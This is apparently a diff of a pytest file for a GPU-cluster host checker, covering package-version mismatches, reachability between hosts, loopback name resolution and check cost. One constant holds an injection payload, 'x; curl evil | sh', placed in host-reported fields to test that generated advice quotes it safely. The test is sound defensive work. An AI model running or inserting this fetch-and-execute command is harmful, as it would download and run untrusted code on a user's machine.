+    results = named(examined(report(facts__r=r, facts__packages__numpy=numpy), needs=R), "r")
+    assert [(each.level, each.found) for each in results] == ([] if level is None else [(level, text)])
 
 
 def test_whether_a_host_alone_or_also_another_may_be_the_cause() -> None:
     """A package that is missing is that host's own fault, another version than elsewhere need not be."""
-    missing = of_hosts([seen(facts__packages__tensorflow=None), seen("gpu-02")], NEEDS)
+    missing = examined(report(facts__packages__tensorflow=None), report("gpu-02"))
     keras = Needs(tensorflow=True, legacy_keras=False)
-    other = of_hosts([seen(facts__packages__tensorflow="2.20.0"), seen("gpu-02"), seen("gpu-03")], keras)
-    apart = of_pairs(
-        [PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", False, None, None, None, "timed out")]
-    )
-
-    def failed(checks: list[CheckReported]) -> list[tuple[str, bool]]:
-        return [(check.check, check.between) for check in checks if check.level is Level.FAIL]
-
-    assert failed(missing) == [("tensorflow", False)]
-    assert failed(other) == [("tensorflow", True)]
-    assert failed(apart) == [("reach", True)]
+    older = report(facts__packages__tensorflow="2.20.0")
+    other = examined(older, report("gpu-02"), report("gpu-03"), needs=keras)
+    for results, expected in (
+        (missing, ("tensorflow", False)),
+        (other, ("tensorflow", True)),
+        (of_pairs(mesh("a", "b", a_b=T)), ("reach", True)),
+    ):
+        assert [(each.check, each.between) for each in results if each.level is F] == [expected]
 
 
 @pytest.mark.parametrize(
-    ("package", "version", "check"),
+    ("package", "version"),
     [
-        ("tensorflow", "2.20.0", "tensorflow"),
-        ("keras", "2.9.0", "keras"),
-        ("numpy", "1.26.4", "numpy"),
-        ("protobuf", "5.1.0", "protobuf"),
-        ("tensorflow-datasets", "4.1.0", "tensorflow_datasets"),
+        ("tensorflow", "2.20.0"),
+        ("keras", "2.9.0"),
+        ("numpy", "1.26.4"),
+        ("protobuf", "5.1.0"),
+        ("tensorflow-datasets", "4.1.0"),
     ],
 )
-def test_a_version_that_is_another_than_elsewhere_has_a_check_of_its_own(
-    package: str, version: str, check: str
-) -> None:
+def test_a_version_that_is_another_than_elsewhere_has_a_check_of_its_own(package: str, version: str) -> None:
     packages = {"tensorflow": "2.21.0", "keras": "3.15.1", "numpy": "2.4.6", "protobuf": "6.33.0"}
     packages["tensorflow-datasets"] = "4.9.9"
-    hosts = [seen(f"gpu-0{number}", facts__packages=packages) for number in (2, 3)]
-    odd = seen("gpu-01", facts__packages={**packages, package: version})
-    found = of_hosts([odd, *hosts], Needs(tensorflow=True, legacy_keras=False))
-    assert {(one.host, one.check) for one in found if "the usual version here" in one.why} == {
-        ("gpu-01", check)
+    hosts = [report(f"gpu-0{number}", facts__packages=packages) for number in (2, 3)]
+    odd = report("gpu-01", facts__packages={**packages, package: version})
+    results = examined(odd, *hosts, needs=Needs(tensorflow=True, legacy_keras=False))
+    assert {(each.host, each.check) for each in results if "the usual version here" in each.why} == {
+        ("gpu-01", package.replace("-", "_"))
     }
 
 
-def test_an_address_is_read_once_however_many_hosts_have_it(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Sixty hosts with twenty addresses each cost a second when every question read all of them again."""
-    read: list[str] = []
-    real = ipaddress.ip_address
-
-    def counted(text: str) -> Any:
-        read.append(text)
-        return real(text)
-
-    monkeypatch.setattr(ipaddress, "ip_address", counted)
-    bridges = [{"name": f"br{number}", "ip": f"172.29.{number}.1"} for number in range(20)]
-    hosts = [
-        seen(f"gpu-{n:02}", facts__interfaces=[{"name": "eth0", "ip": f"10.0.0.{n}"}, *bridges])
-        for n in range(1, 61)
-    ]
+def test_a_name_that_means_the_loopback_is_wrong_and_nothing_else_is_told() -> None:
+    hosts = [report("gpu-01", host__address="four.test"), report("gpu-02")]
     pairs = [
-        PairReported(one.name, other.name, f"{other.host.address}:2222", True, 0.3, True, 0.2, "")
-        for one in hosts
-        for other in hosts
+        PairReported("gpu-01", "gpu-01", "four.test:2222", True, 0.1, None, "", "127.0.1.1"),
+        PairReported("gpu-02", "gpu-01", "four.test:2222", False, None, None, T, "10.0.0.1"),
     ]
-    pairs = [msgspec.structs.replace(pair, resolved=pair.address.partition(":")[0]) for pair in pairs]
-    found = list(of_addresses(hosts, pairs))
-    assert {(check.check, check.level, check.found) for check in found} == {("address", Level.OK, "eth0")}
-    assert not disturbed(hosts, pairs)
-    assert len(read) <= 60 + len(bridges)
+    assert of_level(examined(*hosts, pairs=pairs), F) == [
+        ("gpu-01", "address", "four.test means 127.0.1.1 on gpu-01")
+    ]
+
+
+def test_a_check_costs_as_much_as_there_are_pairs() -> None:
+    """Sixty-four hosts have 4,096 pairs; who compared each host with all pairs would look at 262,144."""
+    names = [f"gpu-{number:02}" for number in range(64)]
+    looks = 0
+
+    class Counted(list[PairReported]):
+        def __iter__(self) -> Any:
+            nonlocal looks
+            looks += len(self)
+            return super().__iter__()
+
+    pairs = Counted(PairReported(a, b, f"{b}:2222", True, 0.1, None) for a in names for b in names)
+    assert not of_level(of_pairs(pairs), W, F)
+    assert looks <= 8 * len(pairs)
 
 
 EVIL = "x; curl evil | sh"
@@ -664,29 +749,26 @@ MORE = [{"name": "ib0", "ip": "10.1.0.1"}, {"name": "ib1", "ip": "10.2.0.1"}]
 @pytest.mark.parametrize(
     "changes",
     [
-        {
-            "facts__python": {"path": EVIL, "version": "3.11.2", "ok": True, "error": ""},
-            "facts__packages": {},
-        },
-        {"hello__user": EVIL, "facts__kill_user_processes": True},
+        {"facts__python__path": EVIL, "facts__packages": {}},
+        {"hello__user": EVIL, "facts__answers__linger": "b true"},
         {"hello__state_error": {"what": "x", "hint": EVIL}},
-        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": "eth0", "ip": EVIL}]},
-        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": "eth0", "ip": f"10.0.0.7%{EVIL}"}]},
-        {"host__address": "10.0.0.9", "facts__interfaces": [{"name": EVIL, "ip": "10.0.0.7"}]},
-        {"host__address": "localhost", "facts__ip": [f"8.8.8.8%{EVIL}", EVIL]},
-        {"facts__gpus": GPUS, "facts__interfaces": [{"name": EVIL, "ip": "10.0.0.1"}, *MORE]},
+        {"facts__setup": {"status": 1, "words": EVIL}, "facts__packages": {}},
+        {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": EVIL}]},
+        {"host__address": "10.0.0.9", "facts__addresses": [{"name": "eth0", "ip": f"10.0.0.7%{EVIL}"}]},
+        {"host__address": "10.0.0.9", "facts__addresses": [{"name": EVIL, "ip": "10.0.0.7"}]},
+        {"host__address": "localhost", "facts__addresses": [{"name": EVIL, "ip": f"8.8.8.8%{EVIL}"}]},
+        {"facts__gpus": GPUS, "facts__addresses": [{"name": EVIL, "ip": "10.0.0.1"}, *MORE]},
     ],
 )
 def test_what_a_host_says_never_stands_bare_in_what_we_advise(changes: dict[str, Any]) -> None:
     """Whoever copies the line after `try:` runs it on a machine of theirs."""
-    two = [seen("gpu-01", **changes), seen("gpu-02")]
+    two = [report("gpu-01", **changes), report("gpu-02")]
     address = two[0].host.address
     pairs = [
-        PairReported("gpu-02", "gpu-01", f"{address}:2222", False, None, False, None, "refused", address),
-        PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", True, 0.1, True, 0.1, "", "10.0.0.2"),
-        PairReported("gpu-01", "gpu-01", f"{address}:2222", True, 0.1, True, 0.1, "", address),
+        PairReported("gpu-02", "gpu-01", f"{address}:2222", False, None, False, "refused", address),
+        PairReported("gpu-01", "gpu-02", "10.0.0.2:2222", True, 0.1, None, "", "10.0.0.2", large=False),
     ]
-    checks = [*of_hosts(two, NEEDS), *of_network(two, pairs)]
-    assert any(check.level is not Level.OK for check in checks)
-    hints = [check.hint for check in checks if "evil" in check.hint]
+    results = examined(*two, pairs=pairs)
+    assert of_level(results, W, F)
+    hints = [each.hint for each in results if "evil" in each.hint]
     assert all("curl" not in re.sub(r"'[^']*'", "", hint) for hint in hints), hints
